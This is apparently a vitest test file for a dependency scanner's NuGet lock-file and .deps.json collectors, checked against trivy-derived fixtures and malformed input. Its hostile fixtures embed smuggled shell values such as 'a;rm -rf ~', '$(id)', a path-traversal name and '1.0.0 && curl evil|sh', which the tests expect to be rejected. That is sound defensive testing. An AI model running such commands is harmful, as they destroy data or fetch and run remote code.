import { truncateSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parsePurl } from '../../../src/common/purl.js';
import type { CollectResult, Collector } from '../../../src/inventory/collector.js';
import { dotnetDepsCollector, MAX_DEPS_JSON_BYTES } from '../../../src/inventory/collectors/dotnet-deps.js';
import { MAX_NUGET_LOCK_BYTES, nugetLockCollector } from '../../../src/inventory/collectors/nuget-lock.js';
import { walk } from '../../../src/inventory/walk.js';
import { PKGDB, makeRoot, runCollector } from '../../helpers/fixtures.js';

const NUGET = path.join(PKGDB, 'nuget');

/** Walk a root the way a scan does and hand each collector the files it wants. */
async function scanWith(root: string, collector: Collector): Promise<CollectResult> {
  const files: string[] = [];
  await walk({ root, starts: ['/'] }, (rel, base) => {
    if (collector.wants?.(rel, base)) files.push(rel);
  });
  return runCollector(collector, root, { files: files.sort() });
}

type Row = [name: string, version: string, direct: boolean | undefined];
const rows = (r: CollectResult, file: string): Row[] =>
  r.components.filter((c) => c.locations[0] === file).map((c): Row => [c.name, c.version, c.metadata?.direct as boolean | undefined]);

/**
 * Transcribed from aquasecurity/trivy pkg/dependency/parser/nuget/lock/parse_testcase.go @
 * 1676aeffcff023192bb05f7cdbe0fa65a127dff5 (nuGetLegacy, nuGetSubDependencies,
 * nuGetMultiRelationship): name, version, and Direct for RelationshipDirect.
 */
const LOCKS: Record<string, Row[]> = {
  '/trivy-lock-legacy/packages.lock.json': [
    ['AWSSDK.Core', '3.5.1.30', true],
    ['Newtonsoft.Json', '12.0.3', true],
  ],
  '/trivy-lock-subdependencies/packages.lock.json': [
    ['Microsoft.Extensions.ApiDescription.Server', '3.0.0', false],
    ['Microsoft.OpenApi', '1.1.4', false],
    ['Newtonsoft.Json', '12.0.3', true],
    ['NuGet.Frameworks', '5.7.0', true],
    ['Swashbuckle.AspNetCore', '5.5.1', true],
    ['Swashbuckle.AspNetCore.Swagger', '5.5.1', false],
    ['Swashbuckle.AspNetCore.SwaggerGen', '5.5.1', false],
    ['Swashbuckle.AspNetCore.SwaggerUI', '5.5.1', false],
  ],
  // Abstractions is Transitive for net8.0 and Direct for net9.0: direct, as trivy says.
  '/trivy-lock-multi-relationship/packages.lock.json': [
    ['Microsoft.Extensions.DependencyInjection', '9.0.0', true],
    ['Microsoft.Extensions.DependencyInjection.Abstractions', '9.0.0', true],
  ],
};

/**
 * Transcribed from aquasecurity/trivy pkg/dependency/parser/dotnet/core_deps/parse_test.go @
 * 058762ee2809f0caffaa54c8361f0b4e016f0041 (happy path, happy path with skipped libs,
 * TestParseMultiProject), projects left out. Trivy also drops the packages whose target
 * entry has no runtime assets (the Microsoft.NETCore.App 1.1.2 metapackage and
 * Microsoft.NETCore.Platforms 1.1.0 of without-runtime); they are `package` libraries the
 * application resolved, and Vigil lists them.
 */
const DEPS: Record<string, Row[]> = {
  '/trivy-deps/ExampleApp1.deps.json': [['Newtonsoft.Json', '13.0.1', true]],
  '/trivy-deps/without-runtime.deps.json': [
    ['JsonDiffPatch', '2.0.61', true],
    ['Libuv', '1.9.1', false],
    ['Microsoft.NETCore.App', '1.1.2', false],
    ['Microsoft.NETCore.Platforms', '1.1.0', false],
    ['System.Collections.Immutable', '1.3.0', false],
  ],
  '/trivy-deps/multi-project/Web.deps.json': [['Newtonsoft.Json', '13.0.3', true]],
};

describe('NuGet lock files and .deps.json on the trivy fixtures', () => {
  it('finds every packages.lock.json of the tree and reports what trivy reports, projects left out', async () => {
    const res = await scanWith(NUGET, nugetLockCollector);
    expect(res.problems).toEqual([]);
    expect(new Set(res.components.map((c) => c.locations[0]))).toEqual(new Set(Object.keys(LOCKS)));
    for (const [file, want] of Object.entries(LOCKS)) expect(rows(res, file), file).toEqual(want);
    const multi = res.components.find((c) => c.name === 'Microsoft.Extensions.DependencyInjection.Abstractions')!;
    expect(multi).toMatchObject({
      ecosystem: 'nuget',
      purl: 'pkg:nuget/Microsoft.Extensions.DependencyInjection.Abstractions@9.0.0',
      foundBy: 'nuget-lock',
      metadata: { direct: true, frameworks: ['net8.0', 'net9.0'] },
    });
    expect(parsePurl(multi.purl)).toEqual({ type: 'nuget', name: 'Microsoft.Extensions.DependencyInjection.Abstractions', version: '9.0.0' });
    expect(res.components.some((c) => c.name === 'my.project')).toBe(false);
  });

  it('finds every .deps.json and reports its NuGet packages, with direct ones marked from the runtime target', async () => {
    const res = await scanWith(NUGET, dotnetDepsCollector);
    expect(res.problems).toEqual([]);
    expect(new Set(res.components.map((c) => c.locations[0]))).toEqual(new Set(Object.keys(DEPS)));
    for (const [file, want] of Object.entries(DEPS)) expect(rows(res, file), file).toEqual(want);
    expect(res.components.find((c) => c.version === '13.0.1')).toEqual({
      ecosystem: 'nuget',
      name: 'Newtonsoft.Json',
      version: '13.0.1',
      purl: 'pkg:nuget/Newtonsoft.Json@13.0.1',
      locations: ['/trivy-deps/ExampleApp1.deps.json'],
      foundBy: 'dotnet-deps',
      metadata: { direct: true, runtimeTarget: '.NETCoreApp,Version=v5.0', sha512: 'sha512-ppPFpBcvxdsfUonNcvITKqLl3bqxWbDCZIzDWHzjpdAHRFfZe0Dw9HmA0+za13IdyrgJwpkDTDA9fHaxOrt20A==' },
    });
    // No project (ExampleApp1, hello2, Web, Api, Data) is a package.
    expect(res.components.filter((c) => ['ExampleApp1', 'hello2', 'Web', 'Api', 'Data'].includes(c.name))).toEqual([]);
  });

  it('wants lock files by name and deps.json files by suffix only', () => {
    const lock = (p: string) => nugetLockCollector.wants!(p, path.posix.basename(p));
    const deps = (p: string) => dotnetDepsCollector.wants!(p, path.posix.basename(p));
    expect(['/src/app/packages.lock.json', '/packages.lock.json'].map(lock)).toEqual([true, true]);
    expect(['/src/app/packages.config', '/src/app/package-lock.json', '/x/packages.lock.json.bak'].map(lock)).toEqual([false, false, false]);
    expect(['/app/MyApp.deps.json', '/usr/share/dotnet/shared/Microsoft.NETCore.App/8.0.0/Microsoft.NETCore.App.deps.json'].map(deps)).toEqual([true, true]);
    expect(['/app/.deps.json', '/app/MyApp.runtimeconfig.json', '/app/deps.json'].map(deps)).toEqual([false, false, false]);
  });
});

const HOSTILE_LOCK = JSON.stringify({
  version: 1,
  dependencies: {
    'net8.0': {
      Good: { type: 'Direct', requested: '[1.0.0, )', resolved: '1.0.0' },
      'a;rm -rf ~': { type: 'Direct', resolved: '1.0.0' },
      '$(id)': { type: 'Transitive', resolved: '1.0.0' },
      '../../etc/passwd': { type: 'Transitive', resolved: '1.0.0' },
      'new\nline': { type: 'Transitive', resolved: '1.0.0' },
      [`A${'b'.repeat(200)}`]: { type: 'Transitive', resolved: '1.0.0' },
      BadVersion: { type: 'Transitive', resolved: '1.0.0 && curl evil|sh' },
      NoVersion: { type: 'Transitive' },
      NotAnObject: 'str',
      Strange: { type: 'Sideways', resolved: '1.0.0' },
      OtherProject: { type: 'Project' },
      Central: { type: 'CentralTransitive', resolved: '2.0.0-beta.1' },
    },
    'bad\u0000framework': { Evil: { type: 'Direct', resolved: '1.0.0' } },
    'net9.0': 'not an object',
  },
});

const HOSTILE_DEPS = JSON.stringify({
  runtimeTarget: { name: '.NETCoreApp,Version=v8.0' },
  targets: { '.NETCoreApp,Version=v8.0': { 'App/1.0.0': { dependencies: { Good: '1.0.0' } } } },
  libraries: {
    'App/1.0.0': { type: 'project' },
    'Good/1.0.0': { type: 'package', sha512: 'sha512-not-a-hash' },
    'NoSlash': { type: 'package' },
    'Evil;id/1.0.0': { type: 'package' },
    '../x/1.0.0': { type: 'package' },
    'Ver/1.0.0$(id)': { type: 'package' },
    'NoType/1.0.0': {},
    'Str/1.0.0': 'package',
    'Ref/4.0.0': { type: 'reference' },
    'Pack/8.0.0': { type: 'runtimepack' },
  },
});

describe('NuGet collectors on malformed and hostile input', () => {
  it('reports each bad lock file as one problem, each bad entry as one, and still reads the good ones', async () => {
    const { root, cleanup } = makeRoot({
      '/a/packages.lock.json': HOSTILE_LOCK.slice(0, HOSTILE_LOCK.length / 2),
      '/b/packages.lock.json': Buffer.from([0x7b, 0x00, 0xff, 0xfe, 0x13, 0x37, 0x00, 0x7d]),
      '/c/packages.lock.json': '',
      '/d/packages.lock.json': '[]',
      '/e/packages.lock.json': HOSTILE_LOCK,
      '/f/packages.lock.json': '{"version":1}',
      '/g/packages.lock.json': '{"version":1,"dependencies":[]}',
      '/h/packages.lock.json': { copy: path.join(NUGET, 'trivy-lock-legacy/packages.lock.json') },
    });
    try {
      truncateSync(path.join(root, 'c/packages.lock.json'), MAX_NUGET_LOCK_BYTES + 1);
      const res = await scanWith(root, nugetLockCollector);
      const codes = Object.fromEntries(['a', 'b', 'c', 'd', 'f', 'g'].map((d) => [d, res.problems.filter((p) => p.path === `/${d}/packages.lock.json`).map((p) => p.code)]));
      expect(codes).toEqual({ a: ['corrupt'], b: ['corrupt'], c: ['too-large'], d: ['corrupt'], f: ['corrupt'], g: ['corrupt'] });
      const hostile = res.problems.filter((p) => p.path === '/e/packages.lock.json');
      expect(hostile.map((p) => p.message)).toEqual([
        '"net8.0": package "a;rm -rf ~": not a NuGet package id',
        '"net8.0": package "$(id)": not a NuGet package id',
        '"net8.0": package "../../etc/passwd": not a NuGet package id',
        '"net8.0": package "new\\nline": not a NuGet package id',
        `"net8.0": package "A${'b'.repeat(119)}...": not a NuGet package id`,
        '"net8.0": package "BadVersion": invalid version "1.0.0 && curl evil|sh"',
        '"net8.0": package "NoVersion": no resolved version',
        '"net8.0": package "NotAnObject" is not an object',
        '"net8.0": package "Strange": unknown type "Sideways"',
        'target framework "bad\\u0000framework" is not a framework name; its packages were not read',
        'target framework "net9.0" is not an object',
      ]);
      expect(hostile.every((p) => p.code === 'malformed-record' && p.collector === 'nuget-lock' && !/[\n\r\0]/.test(p.message))).toBe(true);
      expect(res.components.filter((c) => c.locations[0] === '/e/packages.lock.json').map((c) => [c.purl, c.metadata])).toEqual([
        ['pkg:nuget/Central@2.0.0-beta.1', { direct: false, frameworks: ['net8.0'] }],
        ['pkg:nuget/Good@1.0.0', { direct: true, frameworks: ['net8.0'] }],
      ]);
      expect(res.components.filter((c) => c.locations[0] === '/h/packages.lock.json')).toHaveLength(2);
      for (const p of res.problems) expect(p.message.length).toBeLessThan(400);
    } finally {
      cleanup();
    }
  });

  it('reports each bad .deps.json as one problem, each bad library as one, and skips what is no package', async () => {
    const { root, cleanup } = makeRoot({
      '/a/App.deps.json': HOSTILE_DEPS.slice(0, 100),
      '/b/App.deps.json': Buffer.from([0x00, 0x01, 0x02, 0x03]),
      '/c/App.deps.json': '',
      '/d/App.deps.json': '"a string"',
      '/e/App.deps.json': HOSTILE_DEPS,
      '/f/App.deps.json': '{"runtimeTarget":{"name":"x"}}',
      '/g/App.deps.json': '{"libraries":[]}',
    });
    try {
      truncateSync(path.join(root, 'c/App.deps.json'), MAX_DEPS_JSON_BYTES + 1);
      const res = await scanWith(root, dotnetDepsCollector);
      const codes = Object.fromEntries(['a', 'b', 'c', 'd', 'f', 'g'].map((d) => [d, res.problems.filter((p) => p.path === `/${d}/App.deps.json`).map((p) => p.code)]));
      expect(codes).toEqual({ a: ['corrupt'], b: ['corrupt'], c: ['too-large'], d: ['corrupt'], f: ['corrupt'], g: ['corrupt'] });
      expect(res.problems.find((p) => p.path === '/f/App.deps.json')!.message).toBe('.deps.json has no "libraries"');
      expect(res.problems.filter((p) => p.path === '/e/App.deps.json').map((p) => p.message)).toEqual([
        'library "NoSlash": no version (the key is Name/Version)',
        'library "Evil;id/1.0.0": not a NuGet package id',
        'library "../x/1.0.0": not a NuGet package id',
        'library "Ver/1.0.0$(id)": invalid version "1.0.0$(id)"',
        'library "NoType/1.0.0" has no type',
        'library "Str/1.0.0" is not an object',
      ]);
      // A hash that is not one is left out rather than reported as the package's.
      expect(res.components.map((c) => [c.purl, c.metadata])).toEqual([['pkg:nuget/Good@1.0.0', { direct: true, runtimeTarget: '.NETCoreApp,Version=v8.0' }]]);
    } finally {
      cleanup();
    }
  });

  it('caps the problems one lock file can produce', async () => {
    const deps: Record<string, unknown> = {};
    for (let i = 0; i < 300; i++) deps[`Bad${i}`] = { type: 'Direct' };
    const { root, cleanup } = makeRoot({ '/packages.lock.json': JSON.stringify({ version: 1, dependencies: { 'net8.0': deps } }) });
    try {
      const res = await runCollector(nugetLockCollector, root, { files: ['/packages.lock.json'] });
      expect(res.problems).toHaveLength(51);
      expect(res.problems[50]!.message).toBe('250 more bad entries not listed');
    } finally {
      cleanup();
    }
  });
});
